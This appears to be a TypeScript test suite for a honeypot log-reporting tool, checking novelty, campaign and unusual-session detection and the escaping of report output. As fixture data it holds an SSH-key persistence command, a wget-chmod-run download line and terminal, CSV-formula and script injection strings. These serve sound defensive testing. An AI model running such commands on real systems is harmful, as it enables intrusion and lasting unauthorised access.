/** What reports say beyond figures, on hand-made logs whose truth is known. */
import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { textReader } from '../../src/cli/text-reader.ts'
import { paintWith } from '../../src/core/terminal.ts'
import { credentialShown } from '../../src/core/text.ts'
import { toVisible } from '../../src/neutralize/visible.ts'
import { count } from '../../src/output/document.ts'
import { OUTPUTS } from '../../src/output/outputs.ts'
import { reportDocument } from '../../src/report/document.ts'
import { renderReportHtml } from '../../src/report/html/index.ts'
import {
  makeReport,
  type Period,
  periodBefore,
  periodOf,
  type Report,
  rangeOf,
  reportJson,
} from '../../src/report/model.ts'
import { renderReport } from '../../src/report/text.ts'
import { InsightQueries } from '../../src/store/repo/insights.ts'
import { ReportQueries } from '../../src/store/repo/report.ts'
import { eachEngine, NOW_US } from '../support/engines.ts'
import { type Fields, Lab, lines, rules, withLimits } from '../support/loading.ts'

const reader = await textReader({ ruleSet: async () => rules })

/** A base64 of 32 bytes and more that begins as every public key does. */
const KEY = `ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ${'c'.repeat(40)} mdrfckr`
const LEAVE_KEY = `cd ~ && mkdir .ssh && echo "${KEY}" >> .ssh/authorized_keys`
const FILE = 'ab'.repeat(32)
const MAY_10 = rangeOf('2026-05-10', '2026-05-11')

type Plan = {
  readonly at?: string
  readonly ip?: string
  readonly sensor?: string
  readonly commands?: readonly string[]
  readonly seconds?: number
  readonly file?: string
  readonly hassh?: string
  readonly password?: string
}

let made = 0

/** The events of one session; a command a second. */
function session(plan: Plan = {}, id: string = (0xb00000000000 + made).toString(16)): Fields[] {
  made += 1
  const startMs = Date.parse(plan.at ?? `2026-05-10T10:00:${String(made % 60).padStart(2, '0')}Z`)
  const seconds = plan.seconds ?? (plan.commands?.length ?? 0) + 2
  const common = {
    session: id,
    src_ip: plan.ip ?? '192.0.2.1',
    sensor: plan.sensor ?? 'sensor-1',
  }
  const at = (second: number) => ({
    ...common,
    timestamp: new Date(startMs + second * 1_000).toISOString().replace('Z', '000Z'),
  })
  return [
    { ...at(0), eventid: 'cowrie.session.connect', protocol: 'ssh' },
    ...(plan.hassh === undefined
      ? []
      : [{ ...at(0), eventid: 'cowrie.client.kex', hassh: plan.hassh }]),
    {
      ...at(1),
      eventid: 'cowrie.login.success',
      username: 'root',
      password: plan.password ?? 'admin',
    },
    ...(plan.commands ?? []).map((input, i) => ({
      ...at(1 + i),
      eventid: 'cowrie.command.input',
      input,
      message: `CMD: ${input}`,
    })),
    ...(plan.file === undefined
      ? []
      : [
          {
            ...at(1),
            eventid: 'cowrie.session.file_download',
            shasum: plan.file,
            url: 'http://192.0.2.9/x',
          },
        ]),
    { ...at(seconds), eventid: 'cowrie.session.closed', duration: seconds },
  ]
}

async function reportOf(
  lab: Lab,
  period: Period = MAY_10,
  options: { readonly sensors?: readonly string[]; readonly top?: number } = {},
): Promise<Report> {
  const { query } = lab.store
  const sensors = options.sensors?.map((name) => toVisible(name))
  const window = ({ fromDay, untilDay }: Period) => ({
    ...{ fromDay, untilDay, sensor: undefined, sensors },
  })
  const before = periodBefore(period)
  return makeReport(
    await ReportQueries.open(query, window(period)),
    period,
    sensors,
    options.top ?? 10,
    NOW_US,
    {
      source: await InsightQueries.open(query, window(period)),
      reader,
      before: { source: await ReportQueries.open(query, window(before)), period: before },
    },
  )
}

async function loaded(...sessions: readonly (readonly Fields[])[]): Promise<Lab> {
  const lab = await Lab.open()
  lab.write('cowrie.json', lines(sessions.flat()))
  await lab.load()
  return lab
}

const values = (list: readonly { readonly value: string }[]): string[] =>
  list.map((one) => one.value)

eachEngine(() => {
  describe('what is new', () => {
    test('was met in the period and not in the 30 days before it', async () => {
      await using lab = await loaded(
        session({ at: '2026-04-09T10:00:00Z', commands: ['older than 30 days'] }),
        session({ at: '2026-04-10T10:00:00Z', commands: ['known'], ip: '192.0.2.7' }),
        session({ commands: ['known', 'older than 30 days', 'new'], ip: '192.0.2.7' }),
        session({ commands: ['new'], ip: '192.0.2.8', sensor: 'sensor-2', password: 'other' }),
        session({ at: '2026-05-11T00:00:00Z', commands: ['too late'] }),
      )
      const { novelty } = await reportOf(lab)
      assert.equal(novelty!.days, 30)
      assert.deepEqual(novelty!.lists.command, [
        {
          ...{ value: 'new', firstDay: '2026-05-10', events: 2, sessions: 2, sensors: 2 },
          ...{ threatScore: 0, hazardScore: 0 },
        },
        {
          ...{ value: 'older than 30 days', firstDay: '2026-05-10', events: 1, sessions: 1 },
          ...{ sensors: 1, threatScore: 0, hazardScore: 0 },
        },
      ])
      assert.deepEqual(values(novelty!.lists.ip), ['192.0.2.8'])
      assert.deepEqual(values(novelty!.lists.credential), ['root / other'])
      assert.equal(novelty!.totals.command, 2)
    })

    test('of equal counts comes in the order of its bytes, and the list ends where it was told to', async () => {
      await using lab = await loaded(
        ...['b', 'ä', 'B', '\u{1f600}', '\uffee', 'a'].map((text) => session({ commands: [text] })),
        session({ commands: ['z', 'z'] }),
      )
      const { novelty, top } = await reportOf(lab, MAY_10, { top: 4 })
      assert.deepEqual(values(novelty!.lists.command), ['z', 'B', 'a', 'b'])
      assert.equal(novelty!.totals.command, 7)
      assert.deepEqual(values(top.commands), ['z', 'B', 'a', 'b'])
      const whole = await reportOf(lab)
      assert.deepEqual(values(whole.novelty!.lists.command).slice(-3), ['ä', '\uffee', '\u{1f600}'])
    })

    test('names an SSH key by its fingerprint, however the command around it reads', async () => {
      await using lab = await loaded(
        session({ commands: [LEAVE_KEY] }),
        session({ commands: [`echo ${KEY} >> /root/.ssh/authorized_keys`, LEAVE_KEY] }),
      )
      const { novelty } = await reportOf(lab)
      assert.equal(novelty!.totals.sshKey, 1)
      const [key] = novelty!.lists.sshKey
      assert.match(key!.value, /^ssh-rsa SHA256:[\w+/]{43}$/)
      assert.deepEqual([key!.events, key!.sessions, key!.sensors], [3, 2, 1])
      assert.ok(key!.threatScore! >= 70)
      await using old = await loaded(
        session({ at: '2026-05-01T10:00:00Z', commands: [LEAVE_KEY] }),
        session({ commands: [`echo ${KEY} >> /root/.ssh/authorized_keys`] }),
      )
      assert.equal((await reportOf(old)).novelty!.totals.sshKey, 0)
    })

    test('counts a session over midnight once', async () => {
      await using lab = await loaded(
        session({ at: '2026-05-10T23:59:58Z', commands: ['x', 'x', 'x', 'x'] }),
      )
      const { novelty } = await reportOf(lab, rangeOf('2026-05-10', '2026-05-12'))
      const [one] = novelty!.lists.command
      assert.deepEqual([one!.events, one!.sessions, one!.firstDay], [4, 1, '2026-05-10'])
    })
  })

  describe('a campaign', () => {
    const SET = ['uname -a', 'cat /proc/cpuinfo', 'id']
    const from = (ip: number, plan: Plan) => session({ ...plan, ip: `198.51.100.${ip}` })

    test('is a set of commands from three addresses, in whatever order, beside words that nobody else types', async () => {
      await using lab = await loaded(
        from(1, { commands: SET, at: '2026-05-10T01:00:00Z' }),
        from(2, { commands: [...SET].reverse() }),
        from(3, { commands: [...SET, 'busybox XKCDQ'], sensor: 'sensor-2' }),
        from(4, { commands: ['uname -a', 'id'] }),
      )
      const { campaigns } = await reportOf(lab)
      assert.deepEqual(
        campaigns!.map(({ id: _, ...rest }) => rest),
        [
          {
            ...{ shares: 'commands', value: 'uname -a; cat /proc/cpuinfo; id', addresses: 3 },
            ...{ sessions: 3, sensors: 2, firstDay: '2026-05-10', lastDay: '2026-05-10' },
            threatScore: campaigns![0]!.threatScore,
            hazardScore: 0,
          },
        ],
      )
      assert.match(campaigns![0]!.id, /^[0-9a-f]{8}$/)
    })

    test('is no campaign from two addresses, nor a single command that everybody types', async () => {
      await using lab = await loaded(
        ...[1, 2, 3, 4].map((ip) => from(ip, { commands: ['echo hello'] })),
        ...[1, 2, 2, 2].map((ip) => from(ip, { commands: SET })),
      )
      assert.deepEqual((await reportOf(lab)).campaigns, [])
    })

    test('is a key, a file that holds something, or a new HASSH as well', async () => {
      const empty = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
      await using lab = await loaded(
        session({ at: '2026-05-01T10:00:00Z', hassh: 'a'.repeat(32) }),
        ...[1, 2, 3].map((ip) => from(ip, { commands: [LEAVE_KEY], hassh: 'a'.repeat(32) })),
        ...[1, 2, 3].map((ip) => from(ip, { file: FILE, hassh: 'b'.repeat(32) })),
        ...[1, 2, 3].map((ip) => from(ip, { file: empty, hassh: 'c'.repeat(32) })),
      )
      const { campaigns } = await reportOf(lab)
      const found = campaigns!.map((one) => [one.shares, one.value.slice(0, 20), one.addresses])
      assert.deepEqual(
        found.sort(),
        [
          ['commands', 'cd ~ && mkdir .ssh &', 3],
          ['file', 'abababababababababab', 3],
          ['hassh', 'bbbbbbbbbbbbbbbbbbbb', 3],
          ['hassh', 'cccccccccccccccccccc', 3],
          ['sshKey', campaigns!.find((one) => one.shares === 'sshKey')!.value.slice(0, 20), 3],
        ].sort(),
      )
    })

    test('is looked for in the newest days alone where there are too many sessions, and the report says so', async () => {
      await using lab = await loaded(
        ...[1, 2, 3].map((ip) => from(ip, { commands: SET, at: '2026-05-10T10:00:00Z' })),
        ...[1, 2, 3].map((ip) => from(ip, { commands: SET, at: '2026-05-17T10:00:00Z' })),
      )
      const period = rangeOf('2026-05-10', '2026-05-18')
      assert.equal((await reportOf(lab, period)).campaigns![0]!.sessions, 6)
      await withLimits({ comparedSessionsMax: 5 }, async () => {
        const report = await reportOf(lab, period)
        assert.equal(report.campaigns![0]!.sessions, 3)
        assert.match(report.bounds!.join(), /on 2026-05-11 or later/)
        assert.deepEqual(report.sessionsPerDay, { '2026-05-10': 3, '2026-05-17': 3 })
      })
    })
  })

  describe('a session is unusual', () => {
    const COMMON = ['uname -a', 'id', 'ls', 'w']
    const crowd = [1, 2, 3, 4].map(() => COMMON)

    test('for a new key, a new file, what nobody else types, and what was typed by hand; not for what all do', async () => {
      await using lab = await loaded(
        ...crowd.map((commands) => session({ commands })),
        session({ commands: [...COMMON, LEAVE_KEY], ip: '198.51.100.9' }, 'aaaaaaaaaaa1'),
        session({ commands: COMMON.slice(1), file: FILE }, 'aaaaaaaaaaa2'),
        session({ commands: ['vi a', 'vi b', 'who is it', 'make'], seconds: 90 }, 'aaaaaaaaaaa3'),
      )
      const { unusual } = await reportOf(lab)
      assert.deepEqual(
        unusual!.map((one) => [one.session, one.reasons.map(({ reason }) => reason)]),
        [
          ['aaaaaaaaaaa1', ['new-key', 'high-threat']],
          ['aaaaaaaaaaa3', ['rare-commands', 'by-hand']],
          ['aaaaaaaaaaa2', ['new-file']],
        ],
      )
      const [key, byHand, file] = unusual!
      assert.equal(byHand!.reasons[0]!.detail, 'who is it')
      assert.equal(byHand!.durationMs, 90_000)
      assert.match(key!.reasons[0]!.detail!, /^ssh-rsa SHA256:/)
      assert.equal(key!.srcIp, '198.51.100.9')
      assert.equal(file!.reasons[0]!.detail, FILE)
    })

    test('once, where several did the same', async () => {
      const odd = ['odd 1', 'odd 2', 'odd 3']
      await using lab = await loaded(
        session({ commands: odd, at: '2026-05-10T12:00:00Z' }, 'aaaaaaaaaaa2'),
        session({ commands: odd, at: '2026-05-10T12:00:00Z' }, 'aaaaaaaaaaa1'),
      )
      const { unusual } = await reportOf(lab)
      assert.deepEqual(
        unusual!.map((one) => one.session),
        ['aaaaaaaaaaa1'],
      )
    })
  })

  test('a technique counts an event once, with the highest score of its rules', async () => {
    await using lab = await loaded(session({ commands: [LEAVE_KEY, LEAVE_KEY, 'ls'] }))
    const { attack } = await reportOf(lab)
    const keys = attack!.find((one) => one.id === 'T1098.004')
    assert.deepEqual(
      [keys!.name, keys!.tactic, keys!.events],
      ['Account Manipulation: SSH Authorized Keys', 'Persistence', 2],
    )
    assert.ok(keys!.threatScore >= 80)
    assert.deepEqual(
      attack!.map((one) => one.events),
      attack!.map((one) => one.events).sort((a, b) => b - a),
    )
  })

  test('figures are compared with those of as many days before, and of a month with the month before', async () => {
    await using lab = await loaded(
      session({ at: '2026-05-08T10:00:00Z', ip: '192.0.2.1' }),
      session({ at: '2026-05-09T10:00:00Z', ip: '192.0.2.2', commands: ['id'] }),
      session({ at: '2026-05-10T10:00:00Z', commands: ['id', 'ls'], file: FILE }),
    )
    const { comparison } = await reportOf(lab, rangeOf('2026-05-10', '2026-05-12'))
    assert.deepEqual(
      [comparison!.from.slice(0, 10), comparison!.until.slice(0, 10)],
      ['2026-05-08', '2026-05-10'],
    )
    assert.deepEqual(comparison!.figures, {
      events: { now: 6, before: 7 },
      sessions: { now: 1, before: 2 },
      uniqueIps: { now: 1, before: 2 },
      loginAttempts: { now: 1, before: 2 },
      loginSuccess: { now: 1, before: 2 },
      commands: { now: 2, before: 1 },
      downloads: { now: 1, before: 0 },
      uploads: { now: 0, before: 0 },
      uniqueFiles: { now: 1, before: 0 },
    })
    assert.equal(periodBefore(periodOf('monthly', '2026-03', 0)).name, '2026-02')
    assert.equal(periodBefore(periodOf('weekly', '2026-W01', 0)).name, '2025-W52')
  })

  test('hours and days are those in which sessions began, in UTC', async () => {
    await using lab = await loaded(
      session({ at: '2026-05-10T00:00:00Z' }),
      session({ at: '2026-05-10T23:59:59Z' }),
      session({ at: '2026-05-11T23:00:00Z' }),
    )
    const report = await reportOf(lab, rangeOf('2026-05-10', '2026-05-12'))
    assert.equal(report.perHour!.length, 24)
    assert.equal(report.perHour![0], 3)
    assert.equal(report.perHour![23], 6)
    assert.deepEqual(report.sessionsPerDay, { '2026-05-10': 2, '2026-05-11': 1 })
  })

  test('several sensors are reported on as if there were no others', async () => {
    const some = [session({ sensor: 'a', commands: ['1'] }), session({ sensor: 'b' })]
    await using lab = await loaded(...some, session({ sensor: 'c', commands: ['2'] }))
    await using alone = await loaded(...some)
    const sensors = ['b', 'a', 'none such']
    const mixed = await reportOf(lab, MAY_10, { sensors })
    const { completeness: _, ...rest } = mixed
    const { completeness: __, ...expected } = await reportOf(alone, MAY_10, { sensors })
    assert.deepEqual(reportJson(rest as Report), reportJson(expected as Report))
    assert.equal(mixed.sensor, null)
    assert.deepEqual(mixed.sensors, ['a', 'b', 'none such'])
    assert.deepEqual(
      mixed.quality!.sensors.map((one) => [one.sensor, one.events]),
      [
        ['a', 4],
        ['b', 3],
      ],
    )
    assert.equal((await reportOf(lab, MAY_10, { sensors: ['c'] })).sensor, 'c')
    assert.equal((await reportOf(lab, MAY_10, { sensors: ['none such'] })).events.total, 0)
  })

  test('neither the order of loading nor the cut into files changes a byte', async () => {
    const all = [
      ...[1, 2, 3, 4].map((ip) =>
        session({ commands: ['id', 'w', LEAVE_KEY], ip: `192.0.2.${ip}`, sensor: `s-${ip % 2}` }),
      ),
      session({ commands: ['a', 'b', 'c'], file: FILE }, 'odd id'),
      session({ commands: ['c', 'b', 'x'], file: FILE, hassh: 'd'.repeat(32) }),
      session({ at: '2026-05-02T10:00:00Z', commands: ['w'] }),
    ]
    await using forwards = await loaded(...all)
    await using backwards = await Lab.open()
    for (const [i, one] of all.toReversed().entries()) {
      backwards.write(`${i}.json`, lines(one))
      await backwards.load({ paths: [backwards.path(`${i}.json`)] })
    }
    const text = async (lab: Lab): Promise<string> =>
      JSON.stringify({
        ...reportJson(await reportOf(lab)),
        completeness: undefined, // it counts sources
      })
    assert.equal(await text(backwards), await text(forwards))
  })

  test('a brief report has the same figures and lists', async () => {
    await using lab = await loaded(
      session({ at: '2026-05-10T23:59:58Z', commands: ['x', 'y', 'x'], file: FILE }),
      session({ commands: ['x', 'z'], hassh: 'a'.repeat(32), password: 'p' }),
      session({ at: '2026-05-11T10:00:00Z', ip: '192.0.2.5' }),
    )
    const period = rangeOf('2026-05-10', '2026-05-12')
    const whole = await reportOf(lab, period, { top: 2 })
    const brief = await makeReport(
      await ReportQueries.open(lab.store.query, { ...period, sensor: undefined }),
      ...([period, undefined, 2, NOW_US] as const),
    )
    const commands = whole.top.commands.map(
      ({ threatScore: _, hazardScore: __, ...entry }) => entry,
    )
    const { top, ...figures } = brief
    assert.deepEqual({ ...whole.top, commands }, top)
    for (const [name, value] of Object.entries(figures))
      assert.deepEqual(whole[name as keyof Report], value, name)
    assert.equal(brief.novelty, undefined)
    assert.doesNotThrow(() => renderReport(brief, paintWith(false), 80))
  })

  test('a file that was looked up beside the logs has a size in every format, another none', async () => {
    await using lab = await loaded(session({ file: FILE }), session({ file: 'cd'.repeat(32) }))
    const artifact = { kind: 'download', seenAtUs: NOW_US } as const
    await lab.store.saveArtifacts([
      { ...artifact, path: '/a', sha256: FILE, size: 91_136, namedBy: FILE },
      // Bears the name of a hash and holds something else.
      { ...artifact, path: '/b', sha256: FILE, size: 91_136, namedBy: 'cd'.repeat(32) },
    ])
    const report = await reportOf(lab)
    assert.deepEqual(
      report.top.files.map(({ value, size }) => [value.slice(0, 2), size]),
      [
        ['ab', 91_136],
        ['cd', undefined],
      ],
    )
    assert.match(renderReport(report, paintWith(false), 120).text, /89\.0 KiB {2}abab/)
    assert.match(renderReportHtml({ ...report, redaction: 'internal' }, 10).text, /91\.1 kB/)
    const { columns, rows } = reportDocument(report, NOW_US).tables.find(
      ({ name }) => name === 'files',
    )!
    assert.deepEqual(
      rows.map((cells) => cells[columns.indexOf('size_bytes')]),
      [count(91_136), count(null)],
    )
  })

  test('every command shown has its scores, also in a brief report, and what is empty in a credential is named', async () => {
    await using lab = await loaded(
      session({ commands: ['wget http://192.0.2.9/x; chmod +x x; ./x'], password: '' }),
    )
    const brief = await makeReport(
      await ReportQueries.open(lab.store.query, { ...MAY_10, sensor: undefined }),
      ...([MAY_10, undefined, 2, NOW_US, undefined, reader] as const),
    )
    const { threatScore, hazardScore } = brief.top.commands[0]!
    assert.ok(threatScore! > 0)
    for (const report of [brief, await reportOf(lab)]) {
      const { text } = renderReport(report, paintWith(false), 80)
      assert.match(text, new RegExp(` +1 █+ +${threatScore} +${hazardScore} {2}wget `))
      assert.match(text, /root \/ \(empty\)/)
      assert.doesNotMatch(text, /1 networks/)
      const { tables } = reportDocument(report, NOW_US)
      const commands = tables.find(({ name }) => name === 'commands')!
      assert.deepEqual(commands.columns.slice(-2), ['threat', 'hazard'])
      assert.deepEqual(commands.rows[0]!.slice(-2), [count(threatScore!), count(hazardScore!)])
    }
    assert.equal(credentialShown(toVisible(' / ')), '(empty) / (empty)')
    assert.equal(credentialShown(toVisible('a / b')), 'a / b')
    assert.equal(credentialShown(toVisible('(empty) / ')), '"(empty)" / (empty)')
    assert.equal(credentialShown(toVisible(' / "(empty)"')), '(empty) / ""(empty)""')
  })

  test('a store without an event in the period gives a whole report of zeros', async () => {
    await using lab = await loaded(session())
    const report = await reportOf(lab, rangeOf('2031-01-01', '2031-01-02'))
    assert.equal(report.novelty!.totals.ip, 0)
    assert.deepEqual([report.unusual, report.campaigns, report.attack], [[], [], []])
    assert.match(renderReport(report, paintWith(false), 80).text, /No events in this period/)
  })

  test('no output of a report lets hostile text through', async () => {
    const hostile = ['\u001b]0;owned\u0007', '=cmd|x!A1', '<script>alert(1)</script>', '\u202egpj']
    await using lab = await loaded(
      ...[1, 2, 3].map((ip) =>
        session({
          commands: hostile.map((text) => `wget ${text}`),
          ip: `192.0.2.${ip}`,
          sensor: `${hostile[0]}${hostile[2]}`,
          hassh: `${hostile[2]}`,
          file: `${hostile[1]}`,
        }),
      ),
    )
    const report = await reportOf(lab)
    assert.ok(report.campaigns!.length > 0)
    const document = reportDocument(report, NOW_US)
    const texts = [
      renderReport(report, paintWith(false), 100).text,
      ...OUTPUTS.map((output) => output.render(document).text),
    ]
    for (const text of texts) assert.doesNotMatch(text, /[\u0007\u001b\u0085\u202e]/)
    const [html, csv] = ['html', 'csv'].map(
      (name) => OUTPUTS.find((output) => output.name === name)!.render(document).text,
    )
    assert.doesNotMatch(html!, /<script/)
    assert.doesNotMatch(csv!, /(?:^|,)"?=cmd/m)
  })
})

describe('a range', () => {
  test('is of whole UTC days, named by days or by instants', () => {
    const { fromDay, untilDay, name } = rangeOf('2026-03-28T00:00:00Z', '2026-03-30')
    assert.equal(untilDay - fromDay, 2)
    assert.equal(name, '2026-03-28/2026-03-30')
  })

  for (const [from, until] of [
    ['2026-03-28T01:00:00Z', '2026-03-30'],
    ['2026-03-28T00:00:00+02:00', '2026-03-30'],
    ['2026-02-29', '2026-03-30'],
    ['2026-03-30', '2026-03-30'],
    ['2026-03-30', '2026-03-28'],
    ['1970-01-01', '2026-03-28'],
    ['yesterday', 'today'],
  ] as const)
    test(`is refused from ${from} to ${until}`, () => {
      assert.throws(() => rangeOf(from, until), { code: 'USAGE_BAD_ARGUMENT' })
    })
})
